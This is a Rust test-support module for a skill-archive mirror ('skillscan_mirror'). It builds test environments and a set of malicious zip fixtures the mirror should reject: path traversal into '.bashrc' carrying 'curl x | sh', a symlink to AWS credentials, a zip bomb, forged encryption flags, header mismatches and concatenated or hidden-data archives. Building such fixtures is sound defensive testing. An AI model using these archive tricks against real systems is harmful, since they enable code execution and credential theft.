use std::collections::BTreeMap;
use std::sync::Arc;

use axum::Router;
use axum::body::Body;
use axum::http::{HeaderMap, Request, StatusCode};
use bytes::Bytes;
use http_body_util::BodyExt;
use skillscan_mirror::config::Config;
use skillscan_mirror::policy::Policy;
use skillscan_mirror::service::{IngestInput, IngestOutcome};
use skillscan_mirror::store::blobs::FsBlobStore;
use skillscan_mirror::store::sqlite::SqliteStore;
use skillscan_mirror::store::{BlobStore, MetaStore};
use skillscan_mirror::vetting::doubles::{FakeSigner, MarkerVetter};
use skillscan_mirror::vetting::{ApprovalSigner, Vetter};
use skillscan_mirror::{AppState, Mirror, archive, build_router};
use tower::ServiceExt;

pub struct Env {
    pub _dir: tempfile::TempDir,
    pub mirror: Arc<Mirror>,
    pub state: AppState,
    pub vetter: Arc<MarkerVetter>,
}

pub fn mirror_with(
    dir: &std::path::Path,
    policy: Policy,
    config: Config,
    vetter: Arc<dyn Vetter>,
    blobs: Arc<dyn BlobStore>,
    meta: Arc<dyn MetaStore>,
) -> Mirror {
    let signer: Arc<dyn ApprovalSigner> = Arc::new(FakeSigner);
    Mirror { data_dir: dir.to_path_buf(), config, policy, meta, blobs, vetter, signer }
}

pub fn env_with(policy: Policy, config: Config) -> Env {
    let dir = tempfile::tempdir().unwrap();
    let vetter = Arc::new(MarkerVetter::default());
    let meta = Arc::new(SqliteStore::open(&dir.path().join("mirror.db")).unwrap());
    let blobs = Arc::new(FsBlobStore::open(dir.path()).unwrap());
    let m = Arc::new(mirror_with(dir.path(), policy, config, vetter.clone(), blobs, meta));
    let state = AppState::new(m.clone()).unwrap();
    Env { _dir: dir, mirror: m, state, vetter }
}

pub fn env() -> Env {
    env_with(Policy::default(), Config::default())
}

impl Env {
    pub fn app(&self) -> Router {
        build_router(self.state.clone())
    }

    pub fn ingest(&self, slug: &str, version: &str, owner: &str, files: &[(&str, &str)]) -> IngestOutcome {
        let out = self.mirror.ingest(input(slug, version, owner, files), "test").unwrap();
        self.state.rebuild().unwrap();
        out
    }
}

pub fn input(slug: &str, version: &str, owner: &str, files: &[(&str, &str)]) -> IngestInput {
    IngestInput {
        slug: slug.into(),
        version: version.into(),
        owner: Some(owner.into()),
        display_name: None,
        summary: None,
        changelog: format!("release {version}"),
        published_at: 1_767_225_600_000,
        source: "test".into(),
        metadata_json: None,
        license: Some("MIT-0".into()),
        zip: zip(slug, version, files),
    }
}

/// A flat ClawHub-style zip with `_meta.json`.
pub fn zip(slug: &str, version: &str, files: &[(&str, &str)]) -> Vec<u8> {
    let mut m: BTreeMap<String, Vec<u8>> = files.iter().map(|(p, c)| (p.to_string(), c.as_bytes().to_vec())).collect();
    m.insert("_meta.json".into(), archive::meta_json(Some("acme"), slug, version, 1));
    archive::build_zip(&m).unwrap()
}

pub const BENIGN_MD: &str =
    "---\nname: weather-brief\ndescription: Short weather briefings.\n---\n# Weather\nRun the script.\n";

pub async fn call(app: Router, req: Request<Body>) -> (StatusCode, HeaderMap, Bytes) {
    let resp = app.oneshot(req).await.unwrap();
    let status = resp.status();
    let headers = resp.headers().clone();
    let body = resp.into_body().collect().await.unwrap().to_bytes();
    (status, headers, body)
}

pub async fn get(app: Router, uri: &str) -> (StatusCode, HeaderMap, Bytes) {
    call(app, Request::get(uri).body(Body::empty()).unwrap()).await
}

pub fn text(b: &Bytes) -> String {
    String::from_utf8_lossy(b).into_owned()
}

pub fn json(b: &Bytes) -> serde_json::Value {
    serde_json::from_slice(b).unwrap_or_else(|e| panic!("not JSON ({e}): {}", text(b)))
}

/// A zip of `entries` as written by the zip library, deflated, without `_meta.json`.
pub fn raw_zip(entries: &[(&str, &[u8])]) -> Vec<u8> {
    use std::io::Write;
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
    for (p, b) in entries {
        w.start_file(*p, opts).unwrap();
        w.write_all(b).unwrap();
    }
    w.finish().unwrap().into_inner()
}

/// Every position of `needle` in `hay`.
fn positions(hay: &[u8], needle: &[u8]) -> Vec<usize> {
    hay.windows(needle.len()).enumerate().filter(|(_, w)| *w == needle).map(|(i, _)| i).collect()
}

/// One archive of each hostile kind the mirror refuses by structure at ingest, each with a
/// root `SKILL.md`, so only its structure is wrong: (kind, bytes).
pub fn hostile_archives() -> Vec<(&'static str, Vec<u8>)> {
    use std::io::Write;
    let md = BENIGN_MD.as_bytes();
    let traversal = raw_zip(&[("SKILL.md", md), ("../../.bashrc", b"curl x | sh\n")]);
    let symlink = {
        let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        let opts = zip::write::SimpleFileOptions::default();
        w.start_file("SKILL.md", opts).unwrap();
        w.write_all(md).unwrap();
        w.add_symlink("creds", "/home/user/.aws/credentials", opts).unwrap();
        w.finish().unwrap().into_inner()
    };
    // The encryption flag set on an entry, in both its headers (as a real encrypted zip has).
    let mut encrypted = raw_zip(&[("SKILL.md", md), ("secret.sh", b"echo hidden\n")]);
    for p in positions(&encrypted, b"PK\x03\x04") {
        encrypted[p + 6] |= 1;
    }
    for p in positions(&encrypted, b"PK\x01\x02") {
        encrypted[p + 8] |= 1;
    }
    // 4 MiB of zeros deflate to a few KiB: over 200:1.
    let bomb = raw_zip(&[("SKILL.md", md), ("data.bin", &vec![0u8; 4 * 1024 * 1024])]);
    // The local header names another file than the central directory (same length).
    let mut mismatch = raw_zip(&[("SKILL.md", md), ("run.sh", b"echo benign\n")]);
    let local = positions(&mismatch, b"run.sh")[0];
    mismatch[local..local + 6].copy_from_slice(b"run.py");
    // Two archives back to back: readers that scan forward see the first, the others the last.
    let mut two_ends = raw_zip(&[("SKILL.md", md), ("payload.sh", b"curl x | sh\n")]);
    two_ends.extend(raw_zip(&[("SKILL.md", md)]));
    // A directory entry that carries bytes no file listing shows.
    let dir_with_data = raw_zip(&[("SKILL.md", md), ("docs/", b"hidden payload")]);
    vec![
        ("traversal", traversal),
        ("symlink", symlink),
        ("encrypted", encrypted),
        ("bomb", bomb),
        ("header-mismatch", mismatch),
        ("two-end-records", two_ends),
        ("directory-with-data", dir_with_data),
    ]
}
